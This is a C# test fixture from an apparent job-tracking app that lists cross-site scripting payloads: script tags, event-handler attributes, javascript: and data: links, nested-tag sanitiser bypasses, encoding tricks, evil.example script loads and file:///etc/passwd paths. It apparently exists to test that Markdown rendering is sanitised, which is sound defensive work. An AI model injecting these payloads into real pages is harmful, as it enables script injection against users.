namespace JobTracker.Tests.Features.Shared;

/// <summary>Texts that try to bring more into a page than Markdown may.</summary>
internal static class HostileMarkdown
{
    public static IEnumerable<string> All => [.. RawHtml, .. Links.Select(link => $"[x]({link})"), .. Around, .. Nested, .. Characters];

    private static readonly string[] RawHtml =
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<body onload=alert(1)>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{background:url(javascript:alert(1))}</style>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?php <img src=x onerror=alert(1)> ?>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href='https://example.org' onclick='alert(1)'>x</a>",
        "<div style=\"position:fixed;inset:0\">x</div>",
    ];

    private static readonly string[] Links =
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java&Tab;script:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;&#x61;vascript:alert(1)",
        "\u0001javascript:alert(1)",
        "<javascript:alert(1)>",
        "< javascript:alert(1)>",
        "javascript://example.org/%0aalert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "blob:https://example.org/x",
        "file:///etc/passwd",
        "/etc/passwd",
        "//evil.example/x",
        "feed:javascript:alert(1)",
        "https:javascript:alert(1)",
        "view-source:javascript:alert(1)",
        "https://example.org\" onmouseover=\"alert(1)",
        "https://example.org/ \"title\\\" onmouseover=\\\"alert(1)\"",
        "https://example.org/`onclick=alert(1)`",
        "mailto:a@example.org?subject=<script>alert(1)</script>",
    ];

    private static readonly string[] Around =
    [
        "[x][ref]\n\n[ref]: javascript:alert(1)",
        "[x]: JAVASCRIPT:alert(1) \"title\"\n\n[x]",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "![x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](https://example.org/x.png)",
        "![<img src=x onerror=alert(1)>](x)",
        "[![x](x \"onerror=alert(1)\")](javascript:alert(1))",
        "```\"><img/src/onerror=alert(1)>\ncode\n```",
        "```<script>\nalert(1)\n```",
        "`<img src=x onerror=alert(1)>`",
        "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|:--|--:|\n| `\"onclick=1` | y |",
        "# x {onclick=alert(1)}",
        "- [ ] <input onfocus=alert(1) autofocus>\n- [x] \"><script>alert(1)</script>",
        "99999999999999999999. x",
        "www.example.org\"onclick=alert(1)",
        "https://example.org/<script>alert(1)</script>",
        "javascript:alert(1) www.javascript:alert(1)",
    ];

    private static readonly string[] Nested =
    [
        "<table><template><style><img src=x onerror=alert(1)></style></template></table>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<svg><style><!--</style><img src=x onerror=alert(1)>-->",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<xmp><p title=\"</xmp><svg onload=alert(1)>\">",
        "<select><style></select><img src=x onerror=alert(1)></style>",
        "> <script>\n> alert(1)\n> </script>",
        "- <svg\n  onload=alert(1)>",
        "**<b\nonmouseover=alert(1)>**x",
        "[a **b](javascript:alert(1)** c)",
        "[<a href=\"javascript:alert(1)\">](https://example.org)",
        "*[*x*](javascript:alert(1))*",
    ];

    private static readonly string[] Characters =
    [
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "[x](java\0script:alert(1))",
        "\u202e[x](javascript:alert(1))\u202c",
        "[\u202egro.elpmaxe//:sptth](javascript:alert(1))",
        "＜script＞alert(1)＜/script＞",
        "\ud800[x](javascript:alert(1))",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\<script>alert(1)\\</script>",
        "\u2028<script>alert(1)</script>",
    ];
}
